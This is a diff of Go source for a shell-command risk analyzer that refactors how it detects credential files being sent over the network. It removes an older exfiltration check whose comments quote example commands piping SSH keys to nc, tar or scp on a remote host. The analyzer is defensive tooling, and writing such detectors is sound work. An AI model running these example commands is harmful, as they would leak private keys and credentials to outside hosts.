@@ -23,7 +23,6 @@ func (k *Knowledge) Analyze(cmds []Command, env paths.Env) []risk.Finding {
 // database clients from the facts of call (see sqlFact; nil: none).
 func (k *Knowledge) analyze(out []risk.Finding, cmds []Command, env paths.Env, call *tool.Call) []risk.Finding {
 	out = unseen(out, cmds)
-	cred := make([]bool, len(cmds)) // the command reads a credential file
 	fl := &flows{cmds: cmds}
 	// the words of a command, split: their room is reused from command
 	// to command (on the stack for most)
@@ -33,7 +32,6 @@ func (k *Knowledge) analyze(out []risk.Finding, cmds []Command, env paths.Env, c
 	for i, c := range cmds {
 		out = append(out, c.Findings...)
 		out = k.redirects(out, c, env)
-		cred[i] = readsCredential(c, env)
 		if len(c.Args) == 0 || c.Dynamic[0] {
 			continue
 		}
@@ -50,9 +48,6 @@ func (k *Knowledge) analyze(out []risk.Finding, cmds []Command, env paths.Env, c
 					if f, ok := r.judge(c, t, env); ok {
 						out = append(out, mayRun(f, c))
 						fired = true
-						if f.Rule == credentialRead {
-							cred[i] = true
-						}
 					}
 				}
 			}
@@ -80,7 +75,7 @@ func (k *Knowledge) analyze(out []risk.Finding, cmds []Command, env paths.Env, c
 		}
 		out = exhaustion(out, c, name)
 	}
-	return k.exfil(out, fl, cred)
+	return k.exfilFlow(out, cmds, env)
 }
 
 // credentialRead is the rule of the row that reads credential files.
@@ -94,38 +89,6 @@ func readsCredential(c Command, env paths.Env) bool {
 		}
 	}
 	return false
-}
-
-// exfil finds credentials that flow into a command that talks to the
-// network: tar czf - ~/.ssh | nc host 9000.
-func (k *Knowledge) exfil(out []risk.Finding, fl *flows, cred []bool) []risk.Finding {
-	var m memo
-	for i, c := range fl.cmds {
-		if len(c.Args) == 0 || c.Dynamic[0] {
-			continue
-		}
-		if !cred[i] && len(c.Inputs) == 0 {
-			continue // no secrets of its own, nothing flows in
-		}
-		name := commandName(c.Args[0])
-		if !k.down[name] {
-			continue
-		}
-		src := -1
-		if cred[i] && name != "curl" && name != "wget" {
-			src = i // nc host < ~/.ssh/id_rsa, scp ~/.ssh/id_rsa host:
-		} else if len(c.Inputs) > 0 {
-			if m == nil {
-				m = newMemo(len(cred), func(j int) bool { return cred[j] })
-			}
-			src = fl.upstream(i, m)
-		}
-		if src >= 0 {
-			out = append(out, risk.Finding{Analyzer: "shell", Rule: "exfil.credential_file", Level: risk.Critical, Locked: true,
-				Reason: "Secrets read by `" + cut(fl.cmds[src].Line(), 80) + "` are sent over the network by " + name})
-		}
-	}
-	return out
 }
 
 // fedOperands returns, for a command run by xargs without operands of
